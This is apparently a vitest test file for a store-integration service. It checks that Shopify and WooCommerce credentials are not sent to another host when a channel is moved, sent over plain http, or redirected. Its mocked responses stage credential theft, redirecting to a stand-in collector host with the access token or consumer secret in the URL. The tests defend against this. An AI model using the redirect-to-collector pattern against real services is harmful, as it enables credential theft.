import nock from 'nock';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { interceptChannelHttp } from '../helpers/nock.js';
import { createStack, type TestStack } from '../helpers/stack.js';

interceptChannelHttp();

const TOKEN = 'shpat_destination_token_0123456789abcdef';
const NEW_TOKEN = 'shpat_destination_token_new_fedcba98765';
const SHOP = 'https://dest-shop.shopify.test';
const API = `${SHOP}/admin/api/2026-10`;
const EVIL = 'https://collector.evil.test';
const CK = 'ck_destination_0123456789abcdef0123456789';
const CS = 'cs_destination_fedcba9876543210fedcba9876';
const SITE = 'https://dest-woo.test';

/** A host that must never be reached: records every request (any method, any path) it gets. */
function trap(origin: string) {
  const seen: { method: string; headers: Record<string, unknown>; path: string }[] = [];
  const record = function (this: nock.ReplyFnContext, path: string) {
    seen.push({ method: this.req.method, headers: { ...this.req.headers }, path });
    return [200, { data: { shop: { name: 'Stolen' } } }] as [number, unknown];
  };
  nock(origin)
    .persist()
    .get(() => true)
    .reply(record)
    .post(() => true)
    .reply(record);
  return seen;
}

describe.each([
  ['SQLite (embedded default)', true],
  ['MariaDB', false],
])('where a channel sends its secrets, on %s', (_name, sqlite) => {
  let stack: TestStack;
  let seq = 0;

  beforeAll(async () => {
    stack = await createStack({ sqlite });
  });

  afterAll(async () => {
    nock.cleanAll();
    await stack?.close();
  });

  async function shopifyChannel(settings: Record<string, unknown> = {}) {
    const res = await stack.api('POST', '/api/channels', {
      type: 'shopify',
      name: `Dest ${++seq}`,
      settings: {
        shopDomain: 'dest-shop.myshopify.com',
        accessToken: TOKEN,
        webhookSecret: 'dest-webhook-secret',
        apiBaseUrl: API,
        ...settings,
      },
    });
    expect(res.status).toBe(201);
    return res.body.id as number;
  }

  const row = (id: number) => stack.db('channels').where({ id }).first();

  it('moving a Shopify channel elsewhere without its access token is refused with 422 and changes nothing', async () => {
    const id = await shopifyChannel();
    const before = await row(id);

    for (const settings of [
      { apiBaseUrl: `${EVIL}/admin/api/2026-10` },
      { apiBaseUrl: `${EVIL}/admin/api/2026-10`, accessToken: '********' },
      { apiBaseUrl: null },
      { shopDomain: 'other-shop.myshopify.com' },
    ]) {
      const res = await stack.api('PATCH', `/api/channels/${id}`, { name: 'Moved', settings });
      expect(res.status, JSON.stringify(settings)).toBe(422);
      expect(res.body.error).toMatchObject({
        code: 'secrets_required',
        message: expect.stringContaining('accessToken'),
        details: { reenter: ['settings.accessToken'] },
      });
      expect(res.body.error.details.changed.length).toBeGreaterThan(0);
      expect(JSON.stringify(res.body)).not.toContain(TOKEN);
    }
    // Nothing changed: not the name, not the settings, not the sealed secrets.
    expect(await row(id)).toEqual(before);

    // The next connection test still goes to the shop, never to the other host.
    const stolen = trap(EVIL);
    const shop = nock(SHOP)
      .post('/admin/api/2026-10/graphql.json')
      .matchHeader('x-shopify-access-token', TOKEN)
      .reply(200, { data: { shop: { name: 'Dest Shop' } } });
    expect((await stack.api('POST', `/api/channels/${id}/test`)).body.ok).toBe(true);
    expect(shop.isDone()).toBe(true);
    expect(stolen).toEqual([]);
    nock.cleanAll();

    // Other settings still change without the secrets; the same URL with a trailing slash is no move.
    const same = await stack.api('PATCH', `/api/channels/${id}`, {
      settings: { apiBaseUrl: `${API}/`, pullIntervalSeconds: 90 },
    });
    expect(same.status).toBe(200);
    expect(same.body.settings).toMatchObject({ apiBaseUrl: API, pullIntervalSeconds: 90 });
  });

  it('with the access token entered again the move is made, and the new token goes to the new place', async () => {
    const id = await shopifyChannel();
    const NEW_API = 'https://proxy.dest.test/shopify/admin/api/2026-10';
    const moved = await stack.api('PATCH', `/api/channels/${id}`, {
      settings: { apiBaseUrl: NEW_API, accessToken: NEW_TOKEN },
    });
    expect(moved.status).toBe(200);
    expect(moved.body.settings).toMatchObject({ apiBaseUrl: NEW_API, accessToken: '********' });
    const proxy = nock('https://proxy.dest.test')
      .post('/shopify/admin/api/2026-10/graphql.json')
      .matchHeader('x-shopify-access-token', NEW_TOKEN)
      .reply(200, { data: { shop: { name: 'Via proxy' } } });
    expect((await stack.api('POST', `/api/channels/${id}/test`)).body).toMatchObject({ ok: true });
    expect(proxy.isDone()).toBe(true);
  });

  it('moving a WooCommerce site needs its consumer key and secret again', async () => {
    const created = await stack.api('POST', '/api/channels', {
      type: 'woocommerce',
      name: `Woo ${++seq}`,
      settings: { siteUrl: SITE, consumerKey: CK, consumerSecret: CS, webhookSecret: 'w' },
    });
    expect(created.status).toBe(201);
    const id = created.body.id;
    const before = await row(id);
    const none = await stack.api('PATCH', `/api/channels/${id}`, { settings: { siteUrl: EVIL } });
    expect(none.status).toBe(422);
    expect(none.body.error).toMatchObject({
      code: 'secrets_required',
      details: {
        changed: ['settings.siteUrl'],
        reenter: ['settings.consumerKey', 'settings.consumerSecret'],
      },
    });
    const half = await stack.api('PATCH', `/api/channels/${id}`, {
      settings: { siteUrl: EVIL, consumerSecret: 'cs_new' },
    });
    expect(half.status).toBe(422);
    expect(half.body.error.details.reenter).toEqual(['settings.consumerKey']);
    expect(await row(id)).toEqual(before);

    const both = await stack.api('PATCH', `/api/channels/${id}`, {
      settings: { siteUrl: 'https://new-woo.test/shop', consumerKey: 'ck_new', consumerSecret: 'cs_new' },
    });
    expect(both.status).toBe(200);
    expect(both.body.settings.siteUrl).toBe('https://new-woo.test/shop');
  });

  it('credentials go over https only: plain http is refused with 422 except to this machine', async () => {
    const insecure = await stack.api('POST', '/api/channels', {
      type: 'shopify',
      name: 'Plain',
      settings: {
        shopDomain: 'dest-shop.myshopify.com',
        accessToken: TOKEN,
        webhookSecret: 's',
        apiBaseUrl: 'http://dest-shop.shopify.test/admin/api/2026-10',
      },
    });
    expect(insecure.status).toBe(422);
    expect(insecure.body.error.code).toBe('invalid_settings');
    expect(insecure.body.error.details).toEqual([
      expect.objectContaining({ path: 'settings.apiBaseUrl', message: expect.stringContaining('https') }),
    ]);

    const id = await shopifyChannel();
    const before = await row(id);
    const patched = await stack.api('PATCH', `/api/channels/${id}`, {
      settings: { apiBaseUrl: 'http://10.0.0.5:8080/admin/api/2026-10', accessToken: NEW_TOKEN },
    });
    expect(patched.status).toBe(422);
    expect(patched.body.error.details[0].path).toBe('settings.apiBaseUrl');
    expect(await row(id)).toEqual(before);

    const wooPlain = await stack.api('POST', '/api/channels', {
      type: 'woocommerce',
      name: 'Plain woo',
      settings: { siteUrl: 'http://plain-woo.test', consumerKey: CK, consumerSecret: CS, webhookSecret: 'w' },
    });
    expect(wooPlain.status).toBe(422);

    for (const local of ['http://127.0.0.1:9/admin/api/2026-10', 'http://localhost:9/admin/api/2026-10']) {
      expect(
        (
          await stack.api('PATCH', `/api/channels/${id}`, {
            settings: { apiBaseUrl: local, accessToken: TOKEN },
          })
        ).status,
      ).toBe(200);
    }
  });

  it('a redirect is not followed with the access token: the connection test names the status, no secret', async () => {
    const id = await shopifyChannel();
    const stolen = trap(EVIL);
    nock(SHOP)
      .post('/admin/api/2026-10/graphql.json')
      .reply(302, '', { Location: `${EVIL}/collect?token=${TOKEN}` });
    const res = await stack.api('POST', `/api/channels/${id}/test`);
    expect(res.status).toBe(200);
    expect(res.body.ok).toBe(false);
    expect(res.body.message).toMatch(/HTTP 302/);
    expect(res.body.message).toContain('redirect');
    expect(JSON.stringify(res.body)).not.toContain(TOKEN);
    expect(stolen).toEqual([]);
    const view = (await stack.api('GET', `/api/channels/${id}`)).body;
    expect(view.status.lastError.message).toMatch(/HTTP 302/);
    expect(JSON.stringify(view)).not.toContain(TOKEN);
    nock.cleanAll();
  });

  it('a scheduled WooCommerce pull that meets a redirect fails with the status and sends the keys nowhere else', async () => {
    const created = await stack.api('POST', '/api/channels', {
      type: 'woocommerce',
      name: `Woo ${++seq}`,
      settings: {
        siteUrl: SITE,
        consumerKey: CK,
        consumerSecret: CS,
        webhookSecret: 'w',
        authMode: 'query',
        pullStartAt: '2026-11-01T00:00:00Z',
      },
    });
    const id = created.body.id;
    const stolen = trap(EVIL);
    nock(SITE)
      .get('/wp-json/wc/v3/orders')
      .query(true)
      .reply(301, '', { Location: `${EVIL}/wp-json/wc/v3/orders?consumer_secret=${CS}` });
    const sync = await stack.api('POST', `/api/channels/${id}/sync`);
    expect(sync.status).toBe(502);
    expect(sync.body.error.message).toMatch(/HTTP 301/);
    expect(JSON.stringify(sync.body)).not.toContain(CS);
    expect(JSON.stringify(sync.body)).not.toContain(CK);
    expect(stolen).toEqual([]);
    nock.cleanAll();
  });
});
